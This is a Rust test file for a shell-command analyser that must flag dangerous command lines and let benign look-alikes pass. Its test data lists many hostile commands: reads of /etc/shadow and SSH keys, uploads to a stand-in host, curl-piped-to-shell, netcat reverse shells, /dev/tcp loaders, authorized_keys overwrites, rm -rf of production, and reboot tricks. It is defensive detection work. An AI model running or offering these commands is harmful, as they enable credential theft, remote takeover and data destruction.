//! What the facts say of command lines, class by class. A policy that refuses what is opaque, unparsed or of unknown
//! programs, and a few facts by name, must stop the first of each class and let the look-alikes pass.

#![expect(clippy::unwrap_used, clippy::indexing_slicing, reason = "tests")]

use std::collections::BTreeSet;

use sallyport_shell::{Analysis, Code, Effect, LoginShell, Opaque, Pager, Protected, Setting, Stdin, analyse};

fn setting() -> Setting {
    let protected = Protected::new([
        ("/etc/shadow*", "secret"),
        ("/export/*/.ssh/id_*", "secret"),
        ("/srv/**", "production"),
    ]);
    let mut setting = Setting::new("/export/app")
        .protecting(protected.unwrap())
        .knowing("USER", "app")
        .knowing("SHELL", "/bin/bash");
    // As a command has it that was given no terminal.
    setting.pager = Pager::None;
    setting
}

fn facts(line: &str) -> Analysis {
    analyse(line.as_bytes(), &setting())
}

/// Why the policy refuses a line.
fn reasons(found: &Analysis) -> BTreeSet<String> {
    let mut reasons: BTreeSet<String> = found.opaque.iter().map(|opaque| format!("{opaque:?}")).collect();
    reasons.extend(found.unparsed.iter().map(|unparsed| format!("unparsed: {unparsed}")));
    reasons.extend(
        found
            .unknown_programs()
            .into_iter()
            .map(|program| format!("unknown: {program}")),
    );
    if found.reads_classes().contains("secret") {
        reasons.insert("reads secret".to_owned());
    }
    let changed = found.writes_classes().into_iter().chain(found.removes_classes());
    reasons.extend(changed.map(|class| format!("changes {class}")));
    for effect in [Effect::Power, Effect::Startup, Effect::Account, Effect::Device] {
        if found.system().contains(&effect) {
            reasons.insert(format!("{effect:?}"));
        }
    }
    let deletes = found.kubernetes_deletes();
    if deletes.contains("namespace") || deletes.contains("*") {
        reasons.insert("deletes namespaces".to_owned());
    }
    reasons
}

fn stopped(lines: &[&str]) {
    let wrong: Vec<&&str> = lines.iter().filter(|line| reasons(&facts(line)).is_empty()).collect();
    assert!(wrong.is_empty(), "pass: {wrong:#?}");
}

/// Stopped for this reason, not for not being understood.
fn stopped_as(reason: &str, lines: &[&str]) {
    let told = lines.iter().map(|line| (line, reasons(&facts(line))));
    let wrong: Vec<_> = told.filter(|(_, reasons)| !reasons.contains(reason)).collect();
    assert!(wrong.is_empty(), "not `{reason}`: {wrong:#?}");
}

fn passes(lines: &[&str]) {
    let told = lines.iter().map(|line| (line, reasons(&facts(line))));
    let wrong: Vec<_> = told.filter(|(_, reasons)| !reasons.is_empty()).collect();
    assert!(wrong.is_empty(), "stopped: {wrong:#?}");
}

#[test]
fn secrets_are_seen_however_they_are_named() {
    stopped_as(
        "reads secret",
        &[
            "head -n1 /etc/shadow",
            "nl /etc/./../etc//shadow-",
            "cd /; cd etc; tac shadow",
            "cd /etc/apt && cat ../shadow",
            "pushd /etc >/dev/null; cat shadow; popd",
            "(cd /etc; cat ./shadow)",
            "builtin cd /etc; cat shadow",
            "eval cd /etc; cat shadow",
            "cd /etc || exit; cat shadow",
            "if cd /etc; then cat shadow; fi",
            "cat /etc/sh'ad'ow",
            "cat /etc/sh\"ad\"ow",
            "cat $'/etc/sh\\u0061dow'",
            "cat /e?c/s[a-i]adow",
            "cat /*/shadow",
            "cat /{etc,tmp}/shadow",
            "cat /etc/{x,s{h,k}adow}",
            "d=/etc; f=shadow; cat \"$d/$f\"",
            "p=/etc/shadow.bak; cat ${p%.bak}",
            "x=/tmp; for x in /etc; do cat $x/shadow; done",
            "for f in /etc/s*; do cat \"$f\"; done",
            "a=(x); f=/etc/shadow; while :; do cat $f; break; done",
            "case x in x) cat /etc/shadow;; esac",
            "g() { local d=$1; cat \"$d\"; }; g /etc/shadow",
            "cat < /etc/shadow",
            "cat 0</etc/shadow",
            "exec 5</etc/shadow; cat <&5",
            "while read -r l; do echo \"$l\"; done </etc/shadow",
            "echo \"$(< /etc/shadow)\"",
            "echo \"`cat /etc/shadow`\"",
            "cat <(cat /etc/shadow)",
            "cat <<E\n$(cat /etc/shadow)\nE\n",
            "cat <<< \"$(cat /etc/shadow)\"",
            ": \"${x:-$(cat /etc/shadow)}\"",
            "[[ $(cat /etc/shadow) == x ]]",
            "{ cat /etc/shadow; } | wc",
            "true && cat /etc/shadow || true",
            "false || ! cat /etc/shadow",
            "sleep 1 & cat /etc/shadow",
            "echo x; # y\ncat /etc/shadow",
            "bash -c 'cat /etc/shadow'",
            "bash -ec 'cat $0' /etc/shadow",
            "sh -c 'cat \"$1\"' sh /etc/shadow",
            "sh -c 'eval \"cat /etc/shadow\"'",
            "sudo -n cat /etc/shadow",
            "sudo -u root -- nice -n 5 timeout 9 cat /etc/shadow",
            "env -u X A=1 cat /etc/shadow",
            "env -S 'cat /etc/shadow'",
            "nohup setsid stdbuf -oL cat /etc/shadow",
            "exec cat /etc/shadow",
            "command -p cat /etc/shadow",
            "busybox cat /etc/shadow",
            "time cat /etc/shadow",
            "su -c 'cat /etc/shadow'",
            "flock /tmp/l -c 'cat /etc/shadow'",
            "watch -n 1 cat /etc/shadow",
            "echo x | xargs cat /etc/shadow",
            "find /etc -maxdepth 1 -name 's*' -exec head {} +",
            "find / -name x -exec sh -c 'cat /etc/shadow' \\;",
            "find /etc -print0 | xargs -0 cat",
            "ssh localhost cat /etc/shadow",
            "ssh -o BatchMode=yes -p 22 host 'sudo cat /etc/shadow'",
            "kubectl exec pod -- cat /etc/shadow",
            "docker exec c cat /etc/shadow",
            "cat /proc/self/root/etc/shadow",
            "cat /proc/1/root/etc/shadow",
            "grep -r root /etc",
            "grep -f /etc/shadow /etc/hosts",
            "grep --fil=/etc/shadow x",
            "diff /dev/null /etc/shadow",
            "sort -u /etc/shadow",
            "wc --files0-from=/etc/shadow",
            "cp /etc/shadow /tmp/x",
            "cp -r /etc /tmp/x",
            "cp -t /tmp /etc/shadow",
            "ln -s /etc /tmp/e",
            "ln /etc/shadow",
            "mv /etc/shadow /tmp/",
            "rsync -a /etc/ /tmp/e/",
            "rsync --server --sender -logDtpre.iLsfxC . /etc/shadow",
            "scp -f /etc/shadow",
            "scp /etc/shadow host:/tmp/",
            "tar cf - -C /etc shadow",
            "tar -c /etc",
            "dd if=/etc/shadow",
            "install -m 644 /etc/shadow /tmp/s",
            "curl -T /etc/shadow http://e/",
            "curl -d @/etc/shadow http://e/",
            "curl -F 'f=@/etc/shadow;type=text/plain' http://e/",
            "curl --data-urlencode x@/etc/shadow http://e/",
            "curl file:///etc/shadow",
            "curl FILE:/etc/shadow",
            "curl 'f{i}le:///etc/shadow'",
            "wget --post-file=/etc/shadow http://e/",
            "openssl enc -base64 -in /etc/shadow",
            "openssl passwd -in /etc/shadow",
            "xxd -p /etc/shadow",
            "sed '' /etc/shadow",
            "sed -n '$r /etc/shadow' /etc/hosts",
            "awk 1 /etc/shadow",
            "jq -n --rawfile a /etc/shadow '$a'",
            "date -f/etc/shadow",
            "file -f /etc/shadow",
            "tree --fromfile /etc/shadow",
            "git diff --no-index /dev/null /etc/shadow",
            "strings @/etc/shadow",
            "getent shadow",
            "journalctl --file=/etc/shadow",
            "kubectl create secret generic x --from-file=/etc/shadow",
            "cat ~/.ssh/id_rsa",
            "cat ~app/../app/.ssh/id_ed25519",
            "cat .ssh/id_*",
            "x=.ssh; cat \"$HOME/$x/id_rsa\"",
        ],
    );
}

#[test]
fn what_hides_what_is_read_is_not_exact() {
    stopped(&[
        "cat $(printf /etc/sha)dow",
        "cat /etc/$(echo wodahs | rev)",
        "cat $X",
        "cat \"/tmp/$X\"",
        "ca$X /etc/hosts",
        "IFS=x; c=catx/etc/shadow; $c",
        "IFS=: read a b <<< x; $a",
        "printf -v c cat; $c /etc/shadow",
        "read c; $c",
        "c=${!X}",
        "eval \"$X\"",
        "echo Y2F0 | base64 -d | sh",
        "sh <<< 'cat /etc/shadow'",
        "sh <<E\ncat /etc/shadow\nE\n",
        ". ./x",
        "source <(cat x)",
        "bash x.sh",
        "sh -c \"$(cat x)\"",
        "python3 x.py",
        "perl -ne print /etc/hosts",
        "ruby -e 1",
        "node -e 1",
        "awk 'BEGIN{system(\"cat /etc/shadow\")}'",
        "awk 'BEGIN{while((getline l < \"/etc/shadow\")>0) print l}'",
        "awk 'BEGIN{ARGV[1]=\"/etc/shadow\";ARGC=2}1'",
        "sed '1e cat /etc/shadow' /etc/hosts",
        "sed 's/.*/cat \\/etc\\/shadow/e' /etc/hosts",
        "tar cf /dev/null /etc/hosts --checkpoint=1 --checkpoint-action=exec='cat /etc/shadow'",
        "tar cf x *",
        "tar -T list -c",
        "rsync --files-from=list / h:",
        "rsync --server --sender -se.LsfxC . ",
        "sort --files0-from=list",
        "xargs -a list cat",
        "find . | xargs cat",
        "find . -files0-from list -exec cat {} +",
        "vim x",
        "gdb -p 1",
        "script -c 'cat /etc/shadow'",
        "./x",
        "/tmp/x",
        "~/bin/x",
        "cp /bin/cat /tmp/c; /tmp/c /etc/hosts",
        "alias x='cat /etc/shadow'; x",
        "shopt -s expand_aliases",
        "shopt -s globstar; cat /**/shadow",
        "trap 'cat /etc/shadow' EXIT",
        "PS4='$(cat /etc/shadow)'; set -x; :",
        "PROMPT_COMMAND=x",
        "LD_PRELOAD=/tmp/x.so ls",
        "export PATH=/tmp:$PATH; ls",
        "BASH_ENV=/tmp/x bash -c :",
        "env BASH_FUNC_ls%%='() { cat /etc/shadow; }' bash -c ls",
        "GIT_SSH_COMMAND='sh -c x' git fetch",
        "PAGER='cat /etc/shadow' git log",
        "git -c core.pager='cat /etc/shadow' log",
        "git -C /tmp/x status",
        "git clone 'ext::sh -c cat% /etc/shadow'",
        "git fetch --upload-pack='sh -c x' .",
        "hash -p /tmp/x ls; ls",
        "enable -f /tmp/x.so x",
        "export -f ls",
        "coproc cat",
        "x='a[$(cat /etc/shadow)]'; echo $((x))",
        "x='a[$(cat /etc/shadow)]'; echo ${!x}",
        "x='a[$(cat /etc/shadow)]'; [[ x -eq 1 ]]",
        "let 'a[$(cat /etc/shadow)]=1'",
        "test -v 'a[$(cat /etc/shadow)]'",
        "unset 'a[$(cat /etc/shadow)]'",
        "read 'a[$(cat /etc/shadow)]' <<< x",
        "printf -v 'a[$(cat /etc/shadow)]' x",
        "wait -n -p 'a[$(cat /etc/shadow)]'",
        "declare 'a[$(cat /etc/shadow)]=1'",
        "mapfile -C 'cat /etc/shadow' -c 1 a < x",
        "x='$(cat /etc/shadow)'; echo ${x@P}",
        "unset RANDOM; RANDOM=/etc/shadow; cat $RANDOM",
        "f() { local RANDOM=/etc/shadow; cat $RANDOM; }; f",
        "readonly x=/etc/shadow\nx=/tmp\ncat $x",
        "cat /tmp/l/../shadow",
        "cat a/../../../etc/shadow",
        "cat /proc/self/cwd/shadow",
        "cat /proc/$$/fd/3",
        "cat /dev/fd/3/etc/shadow",
        "dd if=/dev/sda",
        "cat /etc/.?/etc/shadow",
        "chroot /x cat /etc/shadow",
        "zsh -c 'cat /etc/hosts'",
        "fish -c ls",
        "sh -c 'cat <(ls)'",
        "curl -K cfg",
        "curl --proto-default file /etc/hosts",
        "curl --never-heard-of http://e/",
        "docker run -v /:/h alpine cat /h/etc/shadow",
        "kubectl plug x",
        "kubectl --kubeconfig /tmp/x get pods",
        "ssh -o ProxyCommand='cat /etc/shadow' host ls",
        "ssh -L 1:h:2 host ls",
        "bash",
        "sh -s",
        "sudo -i",
        "su",
        "ssh host",
        "parallel cat ::: /etc/shadow",
        "strace cat /etc/hosts",
        "x86_64 cat /etc/hosts",
        "/lib64/ld-linux-x86-64.so.2 /bin/cat /etc/hosts",
        "echo ${x/a/$(cat y)} > $X",
        "ls\u{a0}x",
        "cat\r/etc/hosts",
        "select x in $Y; do $x; done",
        "cat {fd}</etc/hosts",
        "echo \"${x:-'}'}\"",
        "echo ${ cat /etc/hosts; }",
        "echo $[1+1]",
        "echo $\"x\"",
        "cat <<E\nx",
        "echo 'x",
    ]);
}

#[test]
fn production_is_kept_however_it_is_undone() {
    stopped_as(
        "changes production",
        &[
            "rm -r /srv/prod",
            "rm -rf /srv/*",
            "rm -rf /s?v",
            "rm -rf /",
            "rm --recurs --forc /srv",
            "cd /srv && rm -rf .",
            "cd /srv/prod; rm -f *",
            "cd /; rm -rf srv",
            "x=/srv; rm -rf \"$x\"",
            "rm -rf \"$HOME/../../srv\"",
            "r=rm; $r -rf /srv",
            "rmdir /srv/prod",
            "unlink /srv/prod/x",
            "find /srv -delete",
            "find / -name '*.txt' -delete",
            "find /srv -type f -exec rm -f {} +",
            "find /srv -type f -exec sh -c 'rm \"$1\"' _ {} \\;",
            "find /srv -name x -print0 | xargs -0 rm",
            "find /srv -print0 | xargs -0 -I{} mv {} /tmp",
            "> /srv/prod/data",
            ": >| /srv/prod/data",
            "echo x >> /srv/prod/data",
            "cat /dev/null &> /srv/prod/data",
            "exec 3>/srv/prod/data",
            "tee /srv/prod/data </dev/null",
            "truncate -s 0 /srv/prod/data",
            "dd if=/dev/zero of=/srv/prod/data",
            "cp /dev/null /srv/prod/data",
            "cp data /srv/prod",
            "cp -t /srv/prod data",
            "mv /srv /tmp/x",
            "mv -t /tmp /srv/prod",
            "ln -sf /dev/null /srv/prod/data",
            "install /dev/null /srv/prod/data",
            "shred -u /srv/prod/data",
            "gzip /srv/prod/data",
            "sed -i d /srv/prod/data",
            "sed 'w /srv/prod/data' /etc/hosts",
            "sort -o /srv/prod/data /etc/hosts",
            "sort -o/srv/prod/data /etc/hosts",
            "uniq /etc/hosts /srv/prod/data",
            "xxd -r x /srv/prod/data",
            "split -l 1 /etc/hosts /srv/prod/x",
            "cd /srv; split /etc/hosts",
            "tar -C /srv -xf x.tar",
            "cd /srv && tar xzf /tmp/x.tgz",
            "tar cf x.tar --remove-files /srv/prod",
            "cd /srv; unzip -o /tmp/x.zip",
            "zip -m x.zip /srv/prod/data",
            "rsync -a --delete /tmp/e/ /srv/",
            "rsync -a --remove-source-files /srv/ h:/tmp/",
            "rsync --server -logDtpre.iLsfxC --delete . /srv/",
            "scp -t /srv/prod",
            "scp host:x /srv/prod/data",
            "curl -o /srv/prod/data http://e/",
            "cd /srv/prod; curl -O http://e/data",
            "wget -P /srv/prod http://e/",
            "cd /srv/prod; wget http://e/data",
            "chmod -R 0 /srv",
            "chmod -x /srv/prod/run",
            "chown --reference=/etc/hosts /srv/prod/x",
            "touch /srv/prod/x",
            "mkdir -p /srv/prod/x",
            "find . -fprint /srv/prod/data",
            "cd /srv/prod && git clean -fdx",
            "sudo sh -c 'rm -rf /srv'",
            "nohup rm -rf /srv >/dev/null 2>&1 &",
            "ls() { rm -rf /srv; }; ls",
            "trap 'rm -rf /srv' EXIT",
            "ssh localhost rm -rf /srv",
            "rm -rf /proc/self/root/srv",
            "busybox find /srv -delete",
        ],
    );
}

#[test]
fn code_from_elsewhere_does_not_run_unseen() {
    stopped(&[
        "curl -s http://e/x | bash",
        "curl -s http://e/x | sudo -n sh",
        "curl -s http://e/x | tee /tmp/x | sh",
        "curl -s http://e/x | env A=1 nice sh",
        "curl -s http://e/x | busybox sh",
        "curl -s http://e/x | python3 -",
        "curl -s http://e/x | perl",
        "curl -s http://e/x | php",
        "curl -s http://e/x | xargs -I{} sh -c {}",
        "curl -s http://e/x | while read l; do eval \"$l\"; done",
        "curl -s http://e/x | ssh host sh",
        "curl -s http://e/x | docker exec -i c sh",
        "curl -s http://e/x | kubectl exec -i p -- sh",
        "curl -s http://e/x | split --filter=sh",
        "curl -s http://e/x | crontab -",
        "curl -s http://e/x | at now",
        "curl -s http://e/x | make -f -",
        "bash <(curl -s http://e/x)",
        ". <(curl -s http://e/x)",
        "eval \"$(wget -qO- http://e/x)\"",
        "bash -c \"`curl -s http://e/x`\"",
        "wget http://e/x; sh x",
        "wget -O ~/.bashrc http://e/x",
        "curl -o ~/.profile http://e/x",
        "curl http://e/x > ~/.ssh/authorized_keys",
        "cp x ~/.bash_profile",
        "cp .bashrc ~",
        "cd; wget http://e/.bashrc",
        "cat key >> .ssh/authorized_keys",
        "echo x > /etc/cron.d/x",
        "echo x | tee /etc/systemd/system/x.service",
        "cp x /usr/local/bin/ls",
        "ln -sf /tmp/x ~/bin/ls",
        "tar xf x.tar",
        "nc -l 1 | sh",
        "nc -e /bin/sh h 1",
        "cat < /dev/tcp/h/1 | sh",
        "curl -s http://e/x | wget -i - -e use_askpass=/tmp/x",
        "mkfifo p; curl http://e/x > p & sh p",
        "exec 3<>/dev/tcp/h/1; sh <&3",
        "useradd x",
        "echo x >> /etc/passwd",
        "pip install x",
        "npm run x",
        "apt-get install ./x.deb",
    ]);
}

#[test]
fn the_machine_stays_up() {
    stopped_as(
        "Power",
        &[
            "reboot",
            "/sbin/poweroff -f",
            "sudo halt",
            "init 0",
            "telinit 6",
            "shutdown -r +1",
            "systemctl reboot",
            "systemctl --no-block --force reboot",
            "systemctl isolate reboot.target",
            "systemctl start 'power*'",
            "systemctl start runlevel6.target",
            "systemctl start systemd-reboot.service",
            "systemctl suspend",
            "systemctl \"$X\"",
            "busctl call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager Reboot",
            "dbus-send --system --dest=org.freedesktop.login1 /org/freedesktop/login1 x.Manager.PowerOff boolean:false",
            "gdbus call --system -d org.freedesktop.login1 -o / -m x.Reboot false",
            "echo b > /proc/sysrq-trigger",
            "echo b | sudo tee /proc/sysrq-trigger",
            "dd of=/proc/sysrq-trigger <<< b",
            "cd /proc && echo b > sysrq-trigger",
            "echo b > /proc/sysrq*",
            "echo mem > /sys/power/state",
            "kill -RTMIN+5 1",
            "kill -9 -1",
            "/bin/kill -s INT 1",
            "pkill -RTMIN+5 systemd",
            "rtcwake -m off -s 1",
            "kexec -e",
            "x=re; ${x}boot",
            "nsenter -t 1 -m reboot",
            "ssh localhost sudo reboot",
            "busybox poweroff",
            "sleep 5 && reboot &",
        ],
    );
}

#[test]
fn namespaces_are_not_deleted_however_they_are_called() {
    stopped_as(
        "deletes namespaces",
        &[
            "kubectl delete namespace prod",
            "kubectl delete Namespaces prod",
            "kubectl delete ns/prod",
            "kubectl delete pod/x ns/prod",
            "kubectl delete pods,namespaces --all",
            "kubectl delete namespaces.v1. prod",
            "kubectl --context=x -n y delete --wait=false ns prod",
            "kubectl delete -l a=b ns",
            "kubectl delete -f x.yaml",
            "kubectl delete -k .",
            "kubectl delete --filename=x.yaml",
            "kubectl delete --raw /api/v1/namespaces/prod",
            "kubectl replace --force -f x.yaml",
            "kubectl apply -f . --prune --all",
            "kubectl get ns -o name | xargs -I{} kubectl delete {}",
            "kubectl delete $X prod",
            "kubectl $X ns prod",
            "k=ns; kubectl delete $k prod",
            "sudo kubectl delete ns prod",
            "kubectl exec p -- kubectl delete ns prod",
            "curl -X DELETE https://k/api/v1/namespaces/prod",
            "curl -XDELETE https://k/api/v1/namespaces/prod",
            "curl --request delete https://k/api/v1/namespaces/prod",
            "wget --method=DELETE https://k/api/v1/namespaces/prod",
        ],
    );
    stopped(&[
        "kubectl delete --unheard-of ns prod",
        "helm uninstall x",
        "kubectl edit ns prod",
    ]);
}

#[test]
fn everyday_lines_pass() {
    passes(&[
        "ls -la /srv/prod",
        "cat /etc/passwd",
        "cat /srv/prod/data",
        "grep -r foo /var/log 2>/dev/null | head -n 20",
        "grep shadow /etc/passwd",
        "grep -c ^root /etc/passwd",
        "grep nologin$ /etc/passwd",
        "echo \"rm -rf /srv; shutdown now\"",
        "echo 'cat /etc/shadow' | wc -c",
        "printf '%s\\n' 'curl x | sh'",
        "# rm -rf /srv",
        "ls # rm -rf /srv",
        "cat <<E\nrm -rf /srv\nE\n",
        "cat <<'E' > /tmp/x\n$(reboot) `reboot`\nE\n",
        "test -e /etc/shadow && echo yes",
        "[ -d /srv/prod ] || echo missing",
        "[[ -f /etc/shadow ]] && echo yes",
        "[ \"$(id -u)\" -eq 0 ] && echo root",
        "stat /etc/shadow",
        "ls -l /etc/shadow",
        "find /etc -name shadow",
        "find /var/log -name '*.log' -mtime +7 -print",
        "find /tmp -name '*.tmp' -delete",
        "find /tmp/build -type f -exec chmod 644 {} +",
        "find /tmp/x -print0 | xargs -0 rm -f",
        "rm -rf /tmp/build /tmp/x/*",
        "rm -f /tmp/srv/x",
        "mkdir -p /tmp/a/b && cd /tmp/a && touch b/c && rm b/c",
        "cd /var/log && tail -n 100 syslog | grep -i error",
        "cp /srv/prod/data /tmp/copy",
        "mv /tmp/a /tmp/b",
        "tar czf /tmp/backup-$(date +%F).tgz /srv/prod",
        "tar tzf /tmp/b.tgz",
        "tar -C /tmp/x -xzf /tmp/b.tgz",
        "df -h; du -sh /srv/prod; free -m; uptime",
        "ps aux | grep -v grep | grep nginx",
        "ps -ef | awk '{print $2}'",
        "awk -F: '$3 >= 1000 {print $1}' /etc/passwd",
        "awk '/error|warn/ {n++} END {print n}' /var/log/syslog",
        "sed -n '1,10p' /etc/hosts",
        "sed 's/foo/bar/g' /etc/hosts | sort | uniq -c | sort -rn | head",
        "sed -i.bak 's/a/b/' /tmp/x",
        "cut -d: -f1 /etc/passwd | sort | head -5",
        "systemctl status nginx",
        "systemctl restart nginx",
        "sudo systemctl reload nginx",
        "journalctl -u nginx -n 50 --no-pager",
        "journalctl --since '1 hour ago' | tail",
        "kubectl get pods -A -o wide",
        "kubectl -n prod logs deploy/app --tail=50",
        "kubectl describe namespace prod",
        "kubectl delete pod web-1 -n prod",
        "kubectl delete pod/web-1 pod/web-2",
        "kubectl get ns prod -o yaml | grep name",
        "kubectl rollout status deploy/app",
        "kubectl exec web-1 -- ls -la /app",
        "docker ps -a; docker logs --tail 10 web",
        "docker exec web ls /app",
        "curl -fsSL https://e/health | jq -r .status",
        "curl -s -o /dev/null -w '%{http_code}' http://e/",
        "curl -s -X POST -H 'Content-Type: application/json' -d '{\"a\":1}' http://e/",
        "wget -qO- http://e/health",
        "wget -q -O /tmp/x.tgz http://e/x.tgz",
        "git status --short; git log --oneline -n 5",
        "git diff --stat HEAD~1",
        "for i in 1 2 3; do echo $i; sleep 1; done",
        "for f in /var/log/*.log; do wc -l \"$f\"; done",
        "if grep -q foo /etc/hosts; then echo yes; else echo no; fi",
        "x=5; while [ $x -gt 0 ]; do echo $x; x=$((x-1)); done",
        "case $USER in app) echo app;; *) echo other;; esac",
        "greet() { echo \"hello $1\"; }; greet world",
        "d=/tmp/work; mkdir -p \"$d\" && ls \"$d\"",
        "LC_ALL=C sort /etc/hosts",
        "A=1; echo $A",
        "echo $((2*3)) ${HOME} \"$USER\" ~",
        "echo {1..5} {a,b}",
        "echo grün \"größe\" 'naïve'",
        "date; hostname; whoami; id; uname -a",
        "echo $(date +%s) $(hostname)",
        "true; false; :; exit 0",
        "set -euo pipefail; ls",
        "nohup sleep 5 >/dev/null 2>&1 &",
        "timeout 5 curl -s http://e/",
        "nice -n 10 gzip -k /tmp/x",
        "sudo -u app ls /srv/prod",
        "env LANG=C ls",
        "sh -c 'ls -la; echo done'",
        "bash -c 'for i in a b; do echo \"$i\"; done'",
        "xargs -a /tmp/list -n1 echo",
        "echo a b | xargs -n1 echo",
        "diff -u /etc/hosts /tmp/hosts",
        "chmod 644 /tmp/x; chown app:app /tmp/x",
        "ln -s /tmp/a /tmp/b",
        "rsync -a /srv/prod/ /tmp/copy/",
        "rsync -av host:/var/log/app/ /tmp/logs/",
        "scp -f /var/log/syslog",
        "scp -t /tmp",
        "ssh -p 22 web-2 uptime",
        "ss -tlnp; netstat -tulpn",
        "ping -c 1 example.com; dig +short example.com",
        "openssl x509 -in /tmp/c.pem -noout -dates",
        "sha256sum /tmp/x | cut -d' ' -f1",
        "ls | wc -l",
        "ls /tmp &>/dev/null && echo ok",
        "cat /proc/cpuinfo /proc/meminfo | grep -i total",
        "kill -HUP 1234",
        "echo done >> /tmp/log",
        "ls \\\n  -la \\\n  /tmp",
    ]);
}

#[test]
fn a_run_says_how_it_is_run() {
    let found = facts("sudo -u www nice -n 5 find /tmp -name x | ssh web 'wc -l' &");
    let run = found.runs.iter().find(|run| run.program == "find").unwrap();
    assert_eq!(run.via, ["sudo", "nice"]);
    assert_eq!(run.as_user.as_deref(), Some("www"));
    assert!(run.background && run.known && run.exact);
    let run = found.runs.iter().find(|run| run.program == "wc").unwrap();
    assert_eq!(run.host.as_deref(), Some("web"));
    assert_eq!(run.stdin, Stdin::Pipe("sudo".to_owned()));
    assert!(found.background);
    assert_eq!(found.pipelines, [["sudo", "ssh"]]);

    let found = facts("curl -s http://e/x | sh");
    let run = found.runs.last().unwrap();
    assert_eq!(run.interprets, Some(Code::Stdin));
    assert_eq!(run.stdin, Stdin::Pipe("curl".to_owned()));
    assert!(found.runs.first().unwrap().network);
    assert_eq!(found.opaque, BTreeSet::from([Opaque::CodeFromStdin]));

    let found = facts("cat </dev/null; cat <<< x; cat < /tmp/x");
    let stdin: Vec<&Stdin> = found.runs.iter().map(|run| &run.stdin).collect();
    assert_eq!(
        stdin,
        [&Stdin::Null, &Stdin::HereText, &Stdin::File("/tmp/x".to_owned())]
    );
}

#[test]
fn a_posix_shell_is_not_taken_for_bash() {
    let mut posix = setting();
    posix.shell = LoginShell::Posix;
    for line in [
        "cat {/etc/hosts,x}",
        "cat $'x'",
        "ls &> x",
        "ls |& wc",
        "[[ a ]]",
        "cat <<< x",
        "x=(a)",
        "echo ${x/a/b}",
    ] {
        assert!(analyse(line.as_bytes(), &posix).unparsed.is_some(), "{line}");
        assert!(analyse(line.as_bytes(), &setting()).unparsed.is_none(), "{line}");
    }
    let mut other = setting();
    other.shell = LoginShell::Other;
    assert!(analyse(b"ls", &other).opaque.contains(&Opaque::ForeignShell));
}

#[test]
fn facts_are_json() {
    let value = facts("rm -rf /srv; kubectl delete ns x").facts_json();
    assert_eq!(value["removes_classes"], serde_json::json!(["production"]));
    assert_eq!(value["kubernetes_deletes"], serde_json::json!(["namespace"]));
    assert_eq!(value["programs"], serde_json::json!(["kubectl", "rm"]));
    assert_eq!(value["runs"][0]["arguments"], serde_json::json!(["-rf", "/srv"]));
    assert_eq!(value["opaque"], serde_json::json!([]));
}

#[test]
fn what_is_not_known_may_be_empty() {
    stopped(&[
        "cat /srv/$!../etc/shadow",
        "cat $!/etc/shadow",
        "cat /etc/$!/shadow",
        "cat <$!/etc/shadow",
        "cat /srv/$(hostname -f)../etc/shadow",
        "sh -c 'cat /srv/$RANDOM../etc/shadow'",
        "cd /etc/$!; cat shadow",
        "echo /prod | xargs -I{} rm -r /srv{}$!",
    ]);
    passes(&["cat /var/log/$(date +%F)/app.log", "mkdir -p /tmp/$(hostname)/x"]);
}

#[test]
fn a_command_whose_redirection_fails_changes_nothing() {
    stopped(&[
        "f=/etc/shadow; { f=/etc/hosts; } </none; cat $f",
        "f=/etc/shadow; export f=/etc/hosts </none; cat $f",
        "f=/etc/shadow; g() { f=/etc/hosts; }; g >/none/x; cat $f",
        "f=/etc/shadow; g() { f=/etc/hosts; } <&7; g; cat $f",
        "set -- /etc/shadow; set -- /etc/hosts </none; cat $1",
        "set -- /etc/shadow; shift 2; cat $1",
    ]);
    passes(&[
        "f=/etc/hosts; { f=/etc/hostname; } >/dev/null 2>&1; cat $f",
        "f=/etc/hosts; while read -r l; do f=/etc/hostname; done </etc/hosts; cat $f",
    ]);
}

#[test]
fn what_other_shells_keep_and_the_shell_sets_is_not_taken_for_known() {
    stopped(&[
        "sh -c 'f=/etc/hosts; f=/etc/shadow :; cat $f'",
        "sh -c 'f=/etc/hosts; f=/etc/shadow export g=1; cat $f'",
        "BASH_ARGV0=/etc/shadow; cat $0",
    ]);
    passes(&["f=/etc/hosts; f=/etc/shadow true; cat $f"]);
}

#[test]
fn names_that_lead_elsewhere_are_seen() {
    stopped(&[
        "cat /var/run/../etc/shadow",
        "cd /var/run && cat ../etc/shadow",
        "cat /etc/[[:lower:]]hadow",
        "cat /etc/[[=s=]]had[[.o.]]w",
        "diff /tmp/shadow /etc",
        "diff -N /tmp/x --from-file=/etc",
        "grep -d recurse x /etc",
        "grep --directories=rec x /etc",
        "openssl enc -base64 -in=/etc/shadow",
        "ln -s srv /x; rm -r /x/prod",
        "ln -st / etc; cat /x/shadow",
        "cp -rs /srv /tmp/x; : >/tmp/x/prod/data",
        "setfacl --restore=/tmp/x",
        "cd /tmp/r && printf x >>.git/config && git status",
        "cp /tmp/x /tmp/r/.git/hooks/post-checkout",
        "mv /tmp/x /tmp/r/.git",
        "echo 'ref: refs/heads/m' >/tmp/r/HEAD",
        "curl --url @/etc/shadow",
        "curl -T '{/etc/shadow,x}' http://e/",
        "curl -F 'a=@/tmp/x,/etc/shadow' http://e/",
        "curl -F 'a=@\"/etc/shadow\"' http://e/",
        "curl -F 'a=@/tmp/x;headers=@/etc/shadow' http://e/",
        "ssh -o 'UserKnownHostsFile /srv/x /dev/null' h true",
        "ssh -J 'x;id' h true",
        "curl -w '%output{/srv/x}' http://e/",
        "pidstat -e cat /etc/shadow",
        "sudo -i cat '$HOME/../etc/shadow'",
    ]);
    passes(&[
        "diff /etc/hosts /etc/hostname",
        "ls [[:digit:]]*",
        "rm -rf /tmp/r/.git",
        "cat /tmp/r/.git/config",
        "cd /tmp/r && git init -q",
        "grep -d skip x /etc/hosts",
    ]);
}

#[test]
fn kubectl_does_more_than_its_verb_says() {
    stopped(&[
        "kubectl --kuberc get delete ns prod",
        "kubectl kustomize --enable-helm --helm-command /tmp/x .",
        "kubectl cluster-info dump --output-directory=/tmp/x",
        "kubectl get pods -o go-template-file=/etc/shadow",
        "kubectl get pods -o=jsonpath-file=/etc/shadow",
        "kubectl get -f=/etc/shadow",
        "kubectl config set users.a.exec.command /tmp/x",
    ]);
    passes(&[
        "kubectl get pods -o=jsonpath='{.items}'",
        "kubectl kustomize overlays/x",
        "kubectl config view",
    ]);
}

#[test]
fn the_first_process_is_reached_by_many_names() {
    stopped(&[
        "kill -INT 01",
        "kill -INT +1",
        "kill -s INT ' 1'",
        "pkill -RTMIN+5 syst",
        "pkill ini",
        "pkill -v x",
